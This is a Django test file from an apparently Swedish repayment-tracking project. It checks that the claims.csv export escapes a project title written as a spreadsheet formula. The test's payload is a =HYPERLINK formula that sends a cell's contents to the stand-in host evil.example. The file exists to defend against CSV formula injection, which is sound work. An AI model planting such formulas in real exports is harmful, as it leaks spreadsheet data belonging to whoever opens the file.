"""Issue 9, item 4: a project title that looks like a formula comes out of claims.csv as text."""

import csv
import io
from decimal import Decimal

from django.test import Client

from sifra.projects.models import Project
from sifra.repayment import services

ATTACK = '=HYPERLINK("https://evil.example/?x="&A2;"Klicka")'


def test_the_claims_csv_quotes_formulas(granted_project, economist, unit_a):
    Project.objects.filter(pk=granted_project.pk).update(title=ATTACK)
    services.agreement_set(
        project=granted_project,
        model="savings_share",
        share=Decimal(100),
        shares=[(unit_a, Decimal(100))],
        acting_user=economist,
    )
    services.saving_verify(
        project=granted_project,
        year=2020,
        unit=unit_a,
        amount=1_000_000,
        evidence_kind="report",
        evidence="Uppföljningsrapport",
        acting_user=economist,
    )
    client = Client()
    client.force_login(economist)
    body = client.get("/repayment/claims.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[1][1] == "'" + ATTACK
    assert rows[1][5] == "10000,00"  # amounts stay numbers
